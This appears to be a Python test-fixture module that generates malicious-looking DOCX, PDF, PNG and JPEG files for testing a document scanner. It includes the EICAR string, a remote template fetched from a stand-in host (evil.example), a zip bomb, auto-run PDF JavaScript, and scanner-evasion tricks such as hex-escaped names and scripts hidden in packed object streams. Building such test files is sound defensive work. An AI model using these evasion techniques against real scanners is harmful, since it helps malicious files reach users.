"""Documents as candidates send them, and hostile ones, made here so that none lies in the repository."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Mapping

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
BODY = "<w:document><w:body><w:p><w:r><w:t>许知夏，仓配产品经理</w:t></w:r></w:p></w:body></w:document>"


def docx(extra: Mapping[str, str | bytes] | None = None, *, types: str = TYPES, body: str = BODY) -> bytes:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types,
        "_rels/.rels": "<Relationships/>",
        "word/document.xml": body,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (parts | dict(extra or {})).items():
            archive.writestr(name, content)
    return out.getvalue()


def related(kind: str, target: str = "https://evil.example/t.dotm") -> dict[str, str | bytes]:
    return {
        "word/_rels/settings.xml.rels": f'<Relationships><Relationship Id="r1" Type="{RELATIONSHIP}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    }


def docx_bomb() -> bytes:
    return docx({"word/media.xml": b"0" * 30_000_000, "word/more.xml": b"0" * 31_000_000})


def png(width: int = 8, height: int = 8, after: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 200)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"") + after


def jpg(width: int = 8, height: int = 8, comment: bytes = b"", after: bytes = b"") -> bytes:
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x11\x00" * 3
    scan = b"\xff\xda" + struct.pack(">HB", 12, 3) + b"\x01\x00" * 3 + b"\x00\x3f\x00" + b"\x12\x34\x56"
    return (
        b"\xff\xd8"
        + b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + said
        + frame
        + scan
        + b"\xff\xd9"
        + after
    )


def pdf(writer: PdfWriter | None = None) -> bytes:
    writer = writer or blank()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def blank() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    return writer


def pdf_with(action: Mapping[str, object]) -> bytes:
    """One that does this when it is opened."""
    writer = blank()
    words = {NameObject(key): TextStringObject(str(value)) for key, value in action.items()}
    words[NameObject("/S")] = NameObject(str(action["/S"]))
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(words)
    return pdf(writer)


def pdf_with_script() -> bytes:
    return pdf_with({"/S": "/JavaScript", "/JS": "app.alert(1)"})


def pdf_with_attachment() -> bytes:
    writer = blank()
    writer.add_attachment("run.exe", b"MZ")
    return pdf(writer)


def pdf_encrypted() -> bytes:
    writer = blank()
    writer.encrypt("secret", algorithm="RC4-128")
    return pdf(writer)


def pdf_with_spelled_name() -> bytes:
    """/JavaScript with one letter written as #61."""
    return pdf_with_script().replace(b"/JavaScript", b"/J#61vaScript")


def pdf_with_packed_script() -> bytes:
    """The script lies in a packed stream of objects, where no plain search sees it; its table does not point
    to it by a plain name.
    """
    writer = blank()
    script = writer._add_object(
        DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
        )
    )
    writer.root_object[NameObject("/OpenAction")] = script
    return packed(pdf(writer))


def packed(plain: bytes, *, padding: int = 0) -> bytes:
    """The same file with every dictionary object in one packed stream, found by a packed table."""
    objects = {
        int(number): body.strip()
        for number, body in re.findall(rb"(\d+) 0 obj\s*(.*?)\s*endobj", plain, re.S)
        if b"stream" not in body
    }
    root = int(re.search(rb"/Root (\d+) 0 R", plain)[1])  # type: ignore[index]
    heads, bodies = [], b""
    for number, body in objects.items():
        heads.append(f"{number} {len(bodies)}")
        bodies += body + b" "
    first = " ".join(heads).encode() + b" "
    holder, table = max(objects) + 1, max(objects) + 2
    content = zlib.compress(first + bodies + b" " * padding)
    out = b"%PDF-1.7\n"
    places = {holder: len(out)}
    out += (
        b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n%b\nendstream\n"
        b"endobj\n" % (holder, len(objects), len(first), len(content), content)
    )
    places[table] = len(out)
    rows = b""
    for number in range(table + 1):
        if number in objects:
            rows += struct.pack(">BIH", 2, holder, list(objects).index(number))
        elif number in places:
            rows += struct.pack(">BIH", 1, places[number], 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    rows = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root %d 0 R/Filter/FlateDecode/Length %d>>\nstream\n%b\n"
        b"endstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (table, table + 1, root, len(rows), rows, places[table])
    )
    return out
